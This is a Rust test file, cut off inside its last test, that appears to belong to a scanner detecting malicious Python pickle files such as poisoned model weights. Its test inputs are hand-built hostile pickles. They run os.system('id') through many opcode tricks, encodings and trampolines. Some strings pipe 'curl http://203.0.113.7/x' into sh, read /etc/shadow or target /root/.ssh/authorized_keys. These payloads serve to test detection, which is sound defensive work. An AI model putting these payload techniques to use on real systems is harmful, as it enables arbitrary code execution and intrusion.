//! What streams do to the verdict, as values: one pickle built in code, the findings it must and must not give.

use super::{Literal, Pickle, follow};
use crate::{Format, Input, Limits, Recognition, Scan};
use bartizan_core::{Finding, MonotonicClock, Severity};
use proptest::prelude::*;

struct Outcome {
    findings: Vec<Finding>,
    gaps: usize,
}

fn within(read: impl FnOnce(&mut Scan<'_>)) -> Outcome {
    let (limits, clock) = (Limits::default(), MonotonicClock::start());
    let mut scan = Scan::new(&limits, &clock);
    read(&mut scan);
    Outcome { findings: scan.findings().to_vec(), gaps: scan.gap_count() }
}

/// Scans `bytes` as a pickle whatever they look like.
fn scanned(bytes: &[u8]) -> Outcome {
    within(|scan| Pickle.scan(&Input::new("test.pkl", bytes), scan))
}

fn worst(bytes: &[u8]) -> Option<Severity> {
    scanned(bytes).findings.iter().map(|finding| finding.severity).max()
}

/// Whether `rule` was reported at `severity` or worse with `text` in its message.
#[track_caller]
fn reports(bytes: &[u8], rule: &str, severity: Severity, text: &str) {
    let outcome = scanned(bytes);
    let found = outcome.findings.iter().any(|finding| {
        finding.rule.id == format!("model/{rule}")
            && finding.severity >= severity
            && finding.message.contains(text)
    });
    assert!(found, "no {rule} {severity} with `{text}` among {:#?}", outcome.findings);
}

/// Builds protocol 4 streams.
#[derive(Clone, Default)]
struct Builder(Vec<u8>);

impl Builder {
    fn new() -> Self {
        Self(vec![0x80, 4])
    }

    fn raw(mut self, bytes: &[u8]) -> Self {
        self.0.extend(bytes);
        self
    }

    fn text(self, text: &str) -> Self {
        let length = u32::try_from(text.len()).unwrap().to_le_bytes();
        self.raw(b"X").raw(&length).raw(text.as_bytes())
    }

    fn bytes(self, bytes: &[u8]) -> Self {
        let length = u32::try_from(bytes.len()).unwrap().to_le_bytes();
        self.raw(b"B").raw(&length).raw(bytes)
    }

    fn import(self, module: &str, name: &str) -> Self {
        self.text(module).text(name).raw(b"\x93")
    }

    /// `module.name(*texts)`.
    fn call(self, module: &str, name: &str, texts: &[&str]) -> Self {
        let start = self.import(module, name).raw(b"(");
        texts.iter().fold(start, |builder, text| builder.text(text)).raw(b"tR")
    }

    fn stop(self) -> Vec<u8> {
        self.raw(b".").0
    }
}

impl Builder {
    /// `types.CodeType(…)` as CPython 3.8 to 3.10 take it, for a function of one argument `x`.
    fn code(self, bytecode: &[u8], names: &[&str]) -> Self {
        let start = self.import("types", "CodeType").raw(b"(K\x01K\0K\0K\x01K\x04K\x43").bytes(bytecode);
        let parts = names.iter().fold(start.raw(b"NK\x02\x86("), |builder, name| builder.text(name));
        parts.raw(b"t").text("x").raw(b"\x85").text("f.py").text("f").raw(b"K\x01").bytes(b"").raw(b"))tR")
    }

    /// A function around that code.
    fn function(self, bytecode: &[u8], names: &[&str]) -> Self {
        self.import("types", "FunctionType").code(bytecode, names).raw(b"}\x86R")
    }
}

/// `return eval(x)`.
const EVALUATES: &[u8] = &[116, 0, 124, 0, 131, 1, 83, 0];
/// `return x * 2`.
const DOUBLES: &[u8] = &[124, 0, 100, 1, 20, 0, 83, 0];
/// `return x.eval()`.
const SETS_MODE: &[u8] = &[124, 0, 160, 0, 161, 0, 83, 0];
/// `return alias.system(x)`.
const THROUGH_ALIAS: &[u8] = &[116, 0, 160, 1, 124, 0, 161, 1, 83, 0];

#[test]
fn a_function_rebuilt_from_bytecode_is_judged_by_what_it_does() {
    let held = Builder::new().function(EVALUATES, &["eval"]).stop();
    reports(&held, "bytecode-dangerous-call", Severity::High, "calls `eval`");
    assert_eq!(worst(&held), Some(Severity::High), "nothing has called it yet");
    let called = Builder::new().function(EVALUATES, &["eval"]).text("1").raw(b"\x85R").stop();
    reports(&called, "bytecode-dangerous-call", Severity::Critical, "calls `eval`");
    for (bytecode, names) in [(DOUBLES, &[][..]), (SETS_MODE, &["eval"])] {
        let harmless = Builder::new().function(bytecode, names).stop();
        assert_eq!(worst(&harmless), Some(Severity::Medium), "{names:?}");
    }
}

#[test]
fn a_module_taken_from_the_names_a_function_sees_is_that_module() {
    let names =
        Builder::new().import("builtins", "getattr").raw(b"(").import("operator", "getitem").raw(b"(");
    let names = names.import("builtins", "getattr").raw(b"(").import("logging", "Logger.info");
    let names = names.text("__globals__").raw(b"tR").text("os").raw(b"tR").text("system").raw(b"tR");
    let stream = names.text("id").raw(b"\x85R").stop();
    reports(&stream, "pickle-code-execution", Severity::Critical, "system");
}

#[test]
fn an_address_with_a_port_is_as_telling_as_one_written_as_a_link() {
    let connect = |host: &str, nested: bool| {
        let start = Builder::new().import("tools.far", "connect").raw(b"(");
        let start = if nested { start.raw(b"(") } else { start };
        let end = start.text(host).raw(b"M\x5c\x11");
        if nested { end.raw(b"ttR.").0 } else { end.raw(b"tR.").0 }
    };
    for nested in [false, true] {
        assert_eq!(worst(&connect("203.0.113.7", nested)), Some(Severity::High), "{nested}");
        assert!(worst(&connect("weights.bin", nested)) < Some(Severity::High), "{nested}");
    }
}

#[test]
fn dill_may_evaluate_the_names_of_singletons_only() {
    let evaluates = |text: &str| worst(&Builder::new().call("dill._dill", "_eval_repr", &[text]).stop());
    assert_eq!(evaluates("NotImplemented"), Some(Severity::Low));
    assert!(evaluates("print(1)") >= Some(Severity::High));
}

#[test]
fn a_stream_that_breaks_behind_its_call_is_still_a_pickle() {
    let call = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R".to_vec();
    let without_header = &call[2..];
    for tail in [&b"q"[..], b"\x94\xae", b"a", b"s.", b"u", b"\xff\xd9", b"cno name\n\n"] {
        for head in [&call[..], without_header] {
            let broken = [head, tail].concat();
            assert!(super::is_plausible(&broken, 0), "{tail:?}");
            let inside = [b"\x89PNG\r\n\x1a\n".as_slice(), &[0; 40], &broken].concat();
            if head.len() == call.len() {
                let outcome =
                    crate::scan(&Input::new("a.png", &inside), &Limits::default(), &MonotonicClock::start());
                let worst = outcome.findings.iter().map(|finding| finding.severity).max();
                assert!(worst >= Some(Severity::High), "{tail:?} {:?}", outcome.findings);
            }
        }
    }
    let second = [Builder::new().raw(b"]").stop(), call.clone(), b"\x94\xae".to_vec()].concat();
    reports(&second, "pickle-code-execution", Severity::Critical, "posix.system");
    assert!(!super::is_plausible(b"category\nsecond line\nR", 0));
}

#[test]
fn what_a_broken_stream_would_have_called_counts_as_called() {
    let fetch = b"cbuiltins\ngetattr\n";
    let broken = [&fetch[..], b"S'os'S'system'"].concat();
    reports(&broken, "pickle-dangerous-reference", Severity::High, "cannot be told");
    let whole = [&fetch[..], b"."].concat();
    assert_eq!(worst(&whole), Some(Severity::Low));
    assert!(worst(b"ccollections\nOrderedDict\nS'os'S'system'") < Some(Severity::High));
}

#[test]
fn calling_a_rebuilt_function_while_loading_is_no_mere_function() {
    let called = Builder::new().function(DOUBLES, &[]).raw(b"K\x01\x85R").stop();
    reports(&called, "pickle-hidden-call", Severity::High, "what another call gave");
    let mapped = Builder::new().import("builtins", "map").function(DOUBLES, &[]).raw(b"](K\x01e\x86R").stop();
    reports(&mapped, "pickle-hidden-call", Severity::High, "what another call gave");
}

#[test]
fn a_rebuilt_function_is_held_against_the_modules_imported_for_it() {
    let alone = Builder::new().function(THROUGH_ALIAS, &["o", "system"]).stop();
    assert_eq!(worst(&alone), Some(Severity::Medium));
    let with_module = Builder::new()
        .function(THROUGH_ALIAS, &["o", "system"])
        .text("o")
        .call("cloudpickle.cloudpickle", "subimport", &["os"])
        .raw(b"\x87")
        .stop();
    reports(&with_module, "pickle-embedded-code", Severity::High, "uses `system`, and imports `os`");
    let many = (0..300).fold(Builder::new(), |builder, _| builder.function(SETS_MODE, &["eval"]).raw(b"0"));
    let many = (0..80).fold(many, |builder, index| {
        builder.call("cloudpickle.cloudpickle", "subimport", &[&format!("package{index}")]).raw(b"0")
    });
    let last = many.function(THROUGH_ALIAS, &["o", "system"]);
    let last = last.call("cloudpickle.cloudpickle", "subimport", &["os"]).raw(b"\x86").stop();
    reports(&last, "pickle-embedded-code", Severity::High, "uses `system`, and imports `os`");
}

#[test]
fn every_function_is_looked_into_however_many_came_before() {
    let many = (0..40).fold(Builder::new(), |builder, _| builder.function(DOUBLES, &[]).raw(b"0"));
    assert_eq!(worst(&many.clone().raw(b"N").stop()), Some(Severity::Medium));
    let last = many.function(EVALUATES, &["eval"]).stop();
    reports(&last, "bytecode-dangerous-call", Severity::High, "calls `eval`");
}

#[test]
fn what_map_and_its_like_call_is_called() {
    for (module, name, arguments) in [
        ("builtins", "map", Builder::default().import("os", "system").raw(b"](").text("id").raw(b"e\x86")),
        ("builtins", "filter", Builder::default().import("os", "system").raw(b"](").text("id").raw(b"e\x86")),
        (
            "itertools",
            "starmap",
            Builder::default().import("os", "system").raw(b"](").text("id").raw(b"\x85e\x86"),
        ),
        (
            "functools",
            "reduce",
            Builder::default().import("os", "system").raw(b"](N").text("id").raw(b"e\x86"),
        ),
        (
            "itertools",
            "accumulate",
            Builder::default().raw(b"](").text("id").raw(b"e").import("os", "system").raw(b"\x86"),
        ),
    ] {
        let stream = Builder::new().import(module, name).raw(&arguments.0).raw(b"R").stop();
        reports(&stream, "pickle-code-execution", Severity::Critical, "os.system(");
    }
    let harmless =
        Builder::new().import("builtins", "map").import("builtins", "str").raw(b"](K\x01e\x86R").stop();
    assert!(worst(&harmless) < Some(Severity::Medium));
}

#[test]
fn a_universal_function_is_taken_from_where_its_reconstructor_says() {
    let ufunc =
        |module: &str, name: &str| Builder::new().call("numpy.core", "_ufunc_reconstruct", &[module, name]);
    assert_eq!(worst(&ufunc("numpy", "add").stop()), None);
    let other = ufunc("os", "system").text("id").raw(b"\x85R").stop();
    reports(&other, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
}

#[test]
fn a_distribution_may_hold_scipys_template_and_no_other() {
    let with = |template: &str| {
        let object = Builder::new().import("scipy.stats._continuous_distns", "norm_gen").raw(b")\x81");
        object.raw(b"}").text("_parse_arg_template").text(template).raw(b"sb").stop()
    };
    let own = "\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n\n\
        def _parse_args_rvs(self,  loc=0, scale=1, size=None):\n    \
        return self._argcheck_rvs( loc, scale, size=size)\n\n\
        def _parse_args_stats(self,  loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n";
    assert_eq!(worst(&with(own)), None);
    reports(&with("import os"), "pickle-code-execution", Severity::Critical, "not SciPy's");
}

#[test]
fn source_given_to_an_unknown_function_counts_when_running_it_would_do_harm() {
    let given = |text: &str| worst(&Builder::new().call("package", "run", &[text]).stop());
    assert_eq!(given("open('/etc/shadow').read()"), Some(Severity::High));
    for text in ["log(x) + sqrt(y)", "print('ready')", "relu(linear(x))"] {
        assert_eq!(given(text), Some(Severity::Medium), "{text}");
    }
}

#[test]
fn every_way_to_call_is_seen() {
    let call =
        |stream: &[u8]| reports(stream, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
    call(b"cos\nsystem\n(S'id'\ntR.");
    call(b"(S'id'\nios\nsystem\n.");
    call(b"(cos\nsystem\nS'id'\no.");
    call(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85\x81.");
    call(b"\x80\x04cos\nsystem\nX\x02\0\0\0id\x85}\x92.");
    call(b"\x80\x04X\x02\0\0\0osX\x06\0\0\0system\x93X\x02\0\0\0id\x85R.");
    call(b"cos\nsystem\n(V\\u0069d\ntR.");
}

#[test]
fn a_call_whose_result_is_popped_still_ran() {
    reports(b"(cos\nsystem\nS'id'\no0N.", "pickle-code-execution", Severity::Critical, "os.system");
    reports(b"((cos\nsystem\nS'id'\no1N.", "pickle-code-execution", Severity::Critical, "os.system");
}

#[test]
fn a_call_before_the_breaking_opcode_ran_and_the_tail_is_a_gap() {
    for tail in [&b"\xff"[..], b"0000", b"h\x63.", b"X\xff\0\0\0", b"\x80\x09.", b"", b"u.", b"Iseven\n."] {
        let stream = [b"cos\nsystem\n(S'id'\ntR", tail].concat();
        let outcome = scanned(&stream);
        assert!(outcome.gaps > 0, "{tail:?}");
        reports(&stream, "pickle-code-execution", Severity::Critical, "os.system");
        reports(&stream, "pickle-broken-stream", Severity::Medium, "fails at offset");
    }
}

#[test]
fn memo_slots_give_what_was_last_written() {
    let decoy =
        b"\x80\x04X\x04\0\0\0jsonq\x000X\x02\0\0\0osq\x000h\x00X\x06\0\0\0system\x93X\x02\0\0\0id\x85R.";
    reports(decoy, "pickle-code-execution", Severity::Critical, "os.system");
    let harmless =
        b"\x80\x04X\x02\0\0\0osq\x000X\x0b\0\0\0collectionsq\x000h\x00X\x0b\0\0\0OrderedDict\x93)R.";
    assert_eq!(worst(harmless), None);
}

#[test]
fn values_memoised_beyond_the_kept_slots_come_back_when_they_matter() {
    let mut stream = vec![0x80, 4];
    stream.extend([b"N\x940".repeat(600_000), b"\x8c\x02os\x940\x8c\x06system\x940".to_vec()].concat());
    stream.extend(b"N\x940".repeat(600_000));
    stream.extend(b"j\xc0\x27\x09\0j\xc1\x27\x09\0\x93\x8c\x02id\x85R.");
    reports(&stream, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
}

#[test]
fn names_put_together_by_calls_are_folded() {
    let joined = Builder::new()
        .import("builtins", "getattr")
        .raw(b"(")
        .call("importlib", "import_module", &["os"])
        .import("builtins", "str.join")
        .raw(b"(")
        .text("")
        .raw(b"]")
        .raw(b"(")
        .text("sys")
        .text("tem")
        .raw(b"etR")
        .raw(b"tR")
        .text("id")
        .raw(b"\x85R")
        .stop();
    reports(&joined, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
    reports(&joined, "pickle-hidden-call", Severity::High, "os.system");

    let encoded = Builder::new()
        .call("base64", "b64decode", &["b3M="])
        .raw(b"0")
        .import("builtins", "str")
        .raw(b"(")
        .call("base64", "b64decode", &["b3M="])
        .text("ascii")
        .raw(b"tR")
        .text("system")
        .raw(b"\x93")
        .text("id")
        .raw(b"\x85R")
        .stop();
    reports(&encoded, "pickle-code-execution", Severity::Critical, "os.system");
}

#[test]
fn module_tables_getters_and_partials_lead_to_what_they_give() {
    let table = Builder::new()
        .import("operator", "getitem")
        .raw(b"(")
        .import("sys", "modules")
        .text("os")
        .raw(b"tR")
        .raw(b"q\x010")
        .import("operator", "methodcaller")
        .raw(b"(")
        .text("system")
        .text("id")
        .raw(b"tR")
        .raw(b"h\x01\x85R")
        .stop();
    reports(&table, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
    let partial = Builder::new()
        .import("functools", "partial")
        .raw(b"(")
        .import("os", "system")
        .text("id")
        .raw(b"tR)R")
        .stop();
    reports(&partial, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
}

#[test]
fn a_dangerous_callable_handed_to_a_safe_one_counts() {
    let stream =
        Builder::new().import("collections", "defaultdict").import("os", "system").raw(b"\x85R").stop();
    reports(&stream, "pickle-dangerous-reference", Severity::High, "hands `os.system`");
}

#[test]
fn a_dangerous_reference_without_a_call_is_a_lesser_finding() {
    let stream = Builder::new().import("os", "system").stop();
    reports(&stream, "pickle-dangerous-reference", Severity::Low, "without calling it");
    assert!(worst(&stream) < Some(Severity::Critical));
}

#[test]
fn a_name_that_cannot_be_known_is_hidden() {
    let stream = Builder::new().call("app", "name", &[]).text("x").raw(b"\x93)R").stop();
    reports(&stream, "pickle-hidden-call", Severity::High, "imports a name");
}

#[test]
fn modules_and_tables_must_not_be_changed() {
    let build = Builder::new().import("numpy", "ndarray").raw(b"}").text("__builtins__").raw(b"Nsb").stop();
    reports(&build, "pickle-module-tampering", Severity::High, "numpy.ndarray");
    let table = Builder::new().import("sys", "modules").text("json").import("os", "path").raw(b"s.").0;
    reports(&table, "pickle-module-tampering", Severity::Critical, "sys.modules");
    let list = Builder::new().import("guard.lists", "SAFE").text("os.system").raw(b"a").stop();
    reports(&list, "pickle-module-tampering", Severity::High, "guard.lists.SAFE");
}

#[test]
fn an_attribute_of_an_object_of_the_stream_may_be_set_and_one_of_an_import_may_not() {
    let set = |object: Builder, name: &str| {
        let stream =
            Builder::new().import("builtins", "setattr").raw(b"(").raw(&object.0).text(name).text("x");
        worst(&stream.raw(b"tR").stop())
    };
    let own = Builder::default().import("collections", "OrderedDict").raw(b")R");
    assert_eq!(set(own.clone(), "__qualname__"), Some(Severity::Low));
    assert!(set(own, "__class__") >= Some(Severity::High));
    assert!(set(Builder::default().import("json", "loads"), "x") >= Some(Severity::High));
}

#[test]
fn the_state_of_an_ordinary_object_is_no_tampering() {
    let stream = Builder::new()
        .import("collections", "OrderedDict")
        .raw(b")\x81}(")
        .text("training")
        .raw(b"\x88ub")
        .stop();
    assert_eq!(worst(&stream), None);
}

#[test]
fn unknown_callables_are_graded_by_their_arguments() {
    let call = |module, name, text| worst(&Builder::new().call(module, name, &[text]).stop());
    assert_eq!(call("__main__", "Net", "relu"), Some(Severity::Low));
    assert_eq!(call("vendor.tools", "restore", "weights"), Some(Severity::Medium));
    assert_eq!(call("vendor.tools", "restore", "curl http://a.b/c | sh"), Some(Severity::High));
    let object = Builder::new().import("vendor.tools", "Model").raw(b")\x81").stop();
    assert_eq!(worst(&object), Some(Severity::Low));
}

#[test]
fn frames_that_lie_are_reported_and_still_followed() {
    let short = b"\x80\x04\x95\x03\0\0\0\0\0\0\0cos\nsystem\n\x8c\x02id\x85R.";
    reports(short, "pickle-frame-desync", Severity::Medium, "crosses the end");
    reports(short, "pickle-code-execution", Severity::Critical, "os.system");
    let long = b"\x80\x04\x95\xff\0\0\0\0\0\0\0cos\nsystem\n\x8c\x02id\x85R.";
    reports(long, "pickle-frame-desync", Severity::Medium, "says it holds");
    reports(long, "pickle-code-execution", Severity::Critical, "os.system");
    assert_eq!(worst(b"\x80\x04\x95\x04\0\0\0\0\0\0\0]\x94K."), Some(Severity::Medium));
    assert_eq!(worst(b"\x80\x04\x95\x03\0\0\0\0\0\0\0]\x94."), None);
}

#[test]
fn extension_codes_and_foreign_persistent_ids_are_reported() {
    reports(b"\x80\x02\x82\x01)R.", "pickle-extension-registry", Severity::Medium, "number 1");
    reports(b"Pexternal\n.", "pickle-persistent-id", Severity::Low, "persistent");
}

#[test]
fn torch_storages_are_listed_and_are_no_finding() {
    let stream = Builder::new()
        .raw(b"(")
        .text("storage")
        .import("torch", "FloatStorage")
        .text("7")
        .text("cpu")
        .raw(b"K\x0ctQ")
        .stop();
    let outcome = within(|scan| {
        let followed = follow(&stream, 0, scan);
        assert!(followed.stopped);
        assert_eq!(followed.end, stream.len());
        let storage = &followed.storages[0];
        assert_eq!(
            (storage.class.as_str(), storage.key.as_str(), storage.elements),
            ("FloatStorage", "7", 12)
        );
    });
    assert!(outcome.findings.is_empty(), "{:#?}", outcome.findings);
}

#[test]
fn results_that_containers_look_at_are_given() {
    within(|scan| {
        let magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.";
        assert_eq!(follow(magic, 0, scan).result, Literal::Int(0x1950_a86a_20f9_469c_fc6c));
        let keys = b"\x80\x02](X\x01\0\0\x000X\x01\0\0\x001e.";
        assert_eq!(follow(keys, 0, scan).result, Literal::TextList(vec!["0".into(), "1".into()]));
    });
}

#[test]
fn pickles_behind_pickles_and_separators_are_followed() {
    let evil = b"cos\nsystem\n(S'id'\ntR.";
    for between in [&b""[..], b"\n\n", b"--- next ---", b"\0\0\0\0"] {
        let stream = [b"\x80\x02N.", between, evil].concat();
        reports(&stream, "pickle-code-execution", Severity::Critical, "os.system");
    }
    let far =
        [b"\x80\x02N.".to_vec(), vec![7; 5000], b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.".to_vec()].concat();
    reports(&far, "pickle-code-execution", Severity::Critical, "os.system");
}

#[test]
fn pickles_inside_strings_are_found_through_encodings() {
    let inner = b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.";
    let raw = Builder::new().bytes(inner).stop();
    reports(&raw, "pickle-nested", Severity::Low, "holds a pickle");
    reports(&raw, "pickle-code-execution", Severity::Critical, "os.system");
    let hex = bartizan_core::hex(inner);
    reports(&Builder::new().text(&hex).stop(), "pickle-code-execution", Severity::Critical, "os.system");
    reports(
        &Builder::new().text("gARjb3MKc3lzdGVtCowCaWSFUi4=").stop(),
        "pickle-code-execution",
        Severity::Critical,
        "os.system",
    );
    let words = Builder::new().text("gAR is how encoded pickles begin").stop();
    assert_eq!(worst(&words), None);
}

#[test]
fn shared_containers_that_explode_are_reported() {
    let mut stream = b"\x80\x04]q\x00".to_vec();
    for _ in 0..40 {
        stream.extend(b"(h\x00h\x00lq\x00");
    }
    stream.push(b'.');
    reports(&stream, "pickle-expansion", Severity::Medium, "stand for");
    let slot = b"\x80\x04Nr\xff\xff\xff\x7f.";
    reports(slot, "pickle-expansion", Severity::Medium, "Memo slot");
}

#[test]
fn arrays_of_joblib_are_skipped_and_the_stream_goes_on() {
    let wrapper = |kind: &str, flags: &str| {
        Builder::new()
            .import("joblib.numpy_pickle", "NumpyArrayWrapper")
            .raw(b")\x81}(")
            .text("dtype")
            .import("numpy", "dtype")
            .raw(b"(")
            .text(kind)
            .raw(b"\x89\x88tR(K\x03X\x01\0\0\0<NNN")
            .raw(flags.as_bytes())
            .raw(b"tb")
            .text("shape")
            .raw(b"K\x02\x85")
            .text("numpy_array_alignment_bytes")
            .raw(b"K\x10ub")
    };
    let array = wrapper("f8", "J\u{0}\u{0}\u{0}\u{0}K\u{1}K\u{0}")
        .raw(b"\x03\xff\xff\xff")
        .raw(&[0xff; 16])
        .raw(b"0cos\nsystem\n\x8c\x02id\x85R")
        .stop();
    reports(&array, "pickle-code-execution", Severity::Critical, "os.system");
    assert_eq!(scanned(&array).gaps, 0);
    let objects =
        wrapper("O8", "J\u{0}\u{0}\u{0}\u{0}K\u{1}K?").raw(b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.").stop();
    reports(&objects, "pickle-code-execution", Severity::Critical, "os.system");
    assert_eq!(scanned(&objects).gaps, 0);
}

#[test]
fn text_is_no_pickle() {
    for text in [
        "import os\nprint(1)\n",
        "{\"a\": [1, 2, 3]}",
        "(a, b)\n(c, d)\n",
        "collections of things\nand more\n.",
        "I am a text.\nSo am I.\n",
        "}\n",
        "]",
        "Name,Value\n1,2\n",
        "class A:\n    pass\n",
    ] {
        let input = Input::new("a.txt", text.as_bytes());
        assert_eq!(Pickle.recognise(&input), Recognition::No, "{text}");
    }
    for stream in [&b"cos\nsystem\n(S'id'\ntR."[..], b"\x80\x02N.", b"(lp0\nI1\na.", b"(dp0\nS'a'\nI1\ns."] {
        let input = Input::new("a.txt", stream);
        assert_eq!(Pickle.recognise(&input), Recognition::Certain, "{stream:?}");
    }
}

/// Streams whose mutations reach deep into the machine.
fn seeds() -> Vec<Vec<u8>> {
    vec![
        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
        b"(S'id'\nios\nsystem\n.".to_vec(),
        Builder::new().call("builtins", "getattr", &["os", "system"]).raw(b"q\x01h\x01b2e").stop(),
        Builder::new().import("functools", "partial").raw(b"(").import("builtins", "map").raw(b"tR)R").stop(),
        b"\x80\x04\x95\x10\0\0\0\0\0\0\0]\x94(K\x01K\x02K\x03e(dN\x88sl\x90\x91.".to_vec(),
    ]
}

proptest! {
    #[test]
    fn any_bytes_are_scanned_without_panic(bytes: Vec<u8>) {
        let _ = scanned(&bytes);
    }

    #[test]
    fn mutated_streams_are_scanned_without_panic(
        seed in 0usize..5,
        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..8),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut bytes = seeds().swap_remove(seed);
        for (place, byte) in edits {
            let index = place.index(bytes.len());
            bytes[index] = byte;
        }
        bytes.truncate(cut.index(bytes.len()) + 1);
        let _ = scanned(&bytes);
    }

    #[test]
    fn opcode_soup_is_scanned_without_panic(
        picks in prop::collection::vec((0usize..68, any::<u8>()), 0..200),
    ) {
        let mut bytes = vec![0x80, 4];
        for (pick, operand) in picks {
            bytes.extend([super::opcodes::OPCODES[pick].code, operand % 8]);
        }
        let _ = scanned(&bytes);
    }
}

#[test]
fn a_text_program_cut_after_its_call_is_still_a_pickle() {
    let recognised = |bytes: &[u8]| Pickle.recognise(&Input::new("weights.bin", bytes));
    assert_eq!(recognised(b"cos\nsystem\n(S'id'\ntR"), Recognition::Certain);
    assert_eq!(recognised(b"cos\nsystem\n(S'id'\n"), Recognition::No);
}

#[test]
fn what_comes_after_many_harmless_calls_is_judged_like_the_first() {
    let harmless =
        || Builder::new().import("torch.storage", "_load_from_bytes").bytes(b"\x80\x02N.").raw(b"\x85R0");
    let many: Vec<u8> = (0..40).flat_map(|_| harmless().0.split_off(2)).collect();
    let evil = b"F1.5\n0cos\nsystem\n(S'id'\ntR.";
    let last = Builder::new()
        .raw(&many)
        .import("torch.storage", "_load_from_bytes")
        .bytes(evil)
        .raw(b"\x85R")
        .stop();
    let outcome = within(|scan| Pickle.scan(&Input::new("test.pkl", &last), scan));
    assert!(
        outcome.findings.iter().any(|finding| finding.message.contains("os.system")),
        "{:?}",
        outcome.findings
    );

    let method = |name: &str, argument: &str| {
        let bound = Builder::default().import("builtins", "getattr").import("acme.jobs", "Runner");
        bound.raw(b")\x81").text(name).raw(b"\x86R").text(argument).raw(b"\x85R0").0
    };
    let results =
        |argument: &str| Builder::default().call("acme.jobs", "get", &[]).text(argument).raw(b"\x85R0").0;
    let code = "import os; os.system('id')";
    let methods: Vec<u8> = (0..40).flat_map(|_| method("tolist", "x")).chain(method("run", code)).collect();
    let called: Vec<u8> = (0..40).flat_map(|_| results("x")).chain(results(code)).collect();
    assert_eq!(worst(&Builder::new().raw(&methods).raw(b"N").stop()), Some(Severity::High));
    assert_eq!(worst(&Builder::new().raw(&called).raw(b"N").stop()), Some(Severity::High));
}

#[test]
fn a_constructor_that_acts_is_judged_by_what_it_is_given() {
    let eval = Builder::new().import("models.yolo", "Model").raw(b"}").text("backbone");
    let eval = eval.raw(b"]](K\x01").text("[].__class__.__base__()").raw(b"eas\x85R").stop();
    reports(&eval, "pickle-code-execution", Severity::High, "runs the constructor");
    let made = |texts: &[&str]| {
        Builder::new().call("sentence_transformers.SentenceTransformer", "SentenceTransformer", texts).stop()
    };
    reports(&made(&["someone/model"]), "pickle-nested", Severity::High, "loads the model");
    assert_eq!(worst(&made(&[])), None);
    let corpus = Builder::new().call("gensim.corpora", "MmCorpus", &["http://203.0.113.7/x"]).stop();
    reports(&corpus, "pickle-network", Severity::High, "opens the file or address");
    let new = Builder::new()
        .import("models.yolo", "Model")
        .raw(b")\x81}")
        .text("yaml")
        .text("nn.SiLU()")
        .raw(b"sb");
    assert_eq!(worst(&new.stop()), None);
    let config =
        Builder::new().import("models.yolo", "Model").raw(b"}").text("nc").raw(b"K\x01s\x85R").stop();
    assert_eq!(worst(&config), None);
}

#[test]
fn what_a_trampoline_calls_is_judged_like_a_direct_call() {
    let command = "curl http://203.0.113.7/x | sh";
    let run = || Builder::default().import("acme.shell", "run");
    let listed = || Builder::default().raw(b"](").text(command).raw(b"e");
    let given = || Builder::default().text(command).raw(b"\x85");
    for (module, name, arguments) in [
        ("torch._tensor", "_rebuild_from_type_v2", run().import("torch", "Tensor").raw(&given().0).raw(b"}")),
        ("copy", "_reconstruct", Builder::default().raw(b"K\0N").raw(&run().0).raw(&given().0)),
        ("heapq", "nlargest", Builder::default().raw(b"K\x01").raw(&listed().0).raw(&run().0)),
        ("sklearn.feature_extraction.text", "_analyze", Builder::default().text(command).raw(&run().0)),
        ("copyreg", "_reconstructor", run().raw(&run().0).text(command)),
        ("builtins", "map", run().raw(&listed().0)),
    ] {
        let stream = Builder::new().import(module, name).raw(b"(").raw(&arguments.0).raw(b"tR").stop();
        reports(&stream, "pickle-unknown-callable", Severity::High, "acme.shell.run");
    }
    let plain = Builder::new().import("copyreg", "_reconstructor").raw(b"(");
    let plain = plain.import("sklearn.dummy", "DummyClassifier").import("builtins", "object").raw(b"NtR");
    assert_eq!(worst(&plain.stop()), None);
}

#[test]
fn what_serialisers_write_for_plain_classes_is_no_attack() {
    let getter =
        Builder::new().import("_collections", "_tuplegetter").raw(b"K\0").text("Alias").raw(b"\x86R");
    assert_eq!(worst(&getter.stop()), None);
    let loader = |name: &str| Builder::new().import("_frozen_importlib_external", name).raw(b")\x81}");
    let record = loader("SourceFileLoader").text("name").text("json").raw(b"sb").stop();
    assert_eq!(worst(&record), Some(Severity::Low));
    let made =
        Builder::new().call("_frozen_importlib_external", "SourceFileLoader", &["json", "x.py"]).stop();
    reports(&made, "pickle-import", Severity::Critical, "SourceFileLoader");
    let used =
        Builder::new().import("builtins", "getattr").import("_frozen_importlib_external", "SourceFileLoader");
    let used = used.raw(b")\x81").text("load_module").raw(b"\x86R)R").stop();
    assert_eq!(worst(&used), Some(Severity::High));
    let set = |module: &str, name: &str| {
        let start = Builder::new().import("builtins", "setattr").import(module, "Color");
        worst(&start.text(name).text("Color").raw(b"\x87R").stop())
    };
    assert_eq!(set("__main__", "__qualname__"), Some(Severity::Low));
    assert_eq!(set("__main__", "__reduce__"), Some(Severity::High));
    assert_eq!(set("torch", "__qualname__"), Some(Severity::High));
}

#[test]
fn loaders_and_writers_of_other_packages_are_known() {
    let given =
        |module: &str, name: &str, text: &str| worst(&Builder::new().call(module, name, &[text]).stop());
    for (module, name, text) in [
        ("mmengine.config.config", "Config.fromfile", "x.py"),
        ("detectron2.config", "LazyConfig.load", "x.py"),
        ("ray.cloudpickle", "loads", "x"),
        ("langchain.llms.loading", "load_llm", "x.json"),
        ("transformers.pipelines", "pipeline", "text-generation"),
        ("pandas.core.frame", "DataFrame.to_csv", "x"),
        ("package.fetching", "fetch", "https://203.0.113.7/x"),
        ("package.fetching", "store", "/root/.ssh/authorized_keys"),
    ] {
        assert!(given(module, name, text) >= Some(Severity::High), "{module}.{name}");
    }
